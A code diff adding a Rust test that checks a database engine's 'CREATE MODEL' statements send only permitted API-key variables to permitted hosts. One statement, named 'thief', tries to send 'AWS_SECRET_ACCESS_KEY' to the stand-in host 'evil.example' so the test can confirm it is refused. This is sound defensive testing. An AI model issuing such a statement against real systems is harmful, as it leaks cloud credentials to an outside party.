@@ -151,3 +151,57 @@ async fn a_definition_that_a_newer_version_wrote_is_a_row_that_says_so() {
     assert!(error.to_string().contains("CREATE OR REPLACE MODEL new"), "{error}");
     assert_eq!(number(&client, "SELECT count(*) FROM evo.attempts").await, 0);
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn statements_send_only_allowed_keys_to_allowed_hosts() {
+    let server = Server::start(|_, request| good(request)).await;
+    let fixture = Fixture::new();
+    let client = session(&fixture.create().await);
+    let create = |name: &str, endpoint: &str, variable: &str| {
+        format!(
+            "CREATE MODEL {name} OPTIONS (provider 'openai', model 'm', endpoint '{endpoint}', api_key_env '{variable}')"
+        )
+    };
+    let refused = rows(
+        &client,
+        &create("thief", "https://evil.example/v1", "AWS_SECRET_ACCESS_KEY"),
+    )
+    .await;
+    let refused = refused.unwrap_err().to_string();
+    assert!(
+        refused.contains("AWS_SECRET_ACCESS_KEY, which access.key_variables of the configuration (*_API_KEY)"),
+        "{refused}"
+    );
+    rows(&client, &create("kept", "https://other.example/v1", "SOME_API_KEY"))
+        .await
+        .unwrap();
+    let sandbox = instant(std::sync::Arc::clone(&fixture.sandbox));
+    let settings = [
+        "access.model_hosts=127.0.0.1 *.example.org".to_owned(),
+        "models.remote.provider=openai".to_owned(),
+        format!(
+            "models.remote.endpoint={}",
+            server.endpoint.replace("127.0.0.1", "localhost")
+        ),
+        "models.remote.model=m".to_owned(),
+    ];
+    let settings: Vec<&str> = settings.iter().map(String::as_str).collect();
+    let engine = open_store(&fixture.store(), &settings, Vec::new(), sandbox, OpenMode::Existing)
+        .await
+        .unwrap();
+    let client = session(&engine);
+    let refused = rows(&client, &create("far", "https://other.example/v1", "SOME_API_KEY")).await;
+    let refused = refused.unwrap_err().to_string();
+    assert!(refused.contains("other.example, which access.model_hosts"), "{refused}");
+    // One that was made while it was allowed is a row that says so, and sends nothing.
+    let problem = table(&client, "SELECT problem FROM system.models WHERE name = 'kept'").await;
+    assert!(problem.contains("access.model_hosts"), "{problem}");
+    let draft = "SELECT 'toy' AS task_id EXPAND WITH draft USING MODEL";
+    assert!(rows(&client, &format!("{draft} kept")).await.is_err());
+    rows(&client, &create("near", &server.endpoint, "SOME_API_KEY"))
+        .await
+        .unwrap();
+    // What the configuration sets up is not bound.
+    rows(&client, &format!("{draft} remote")).await.unwrap();
+    assert_eq!(server.count(), 1);
+}
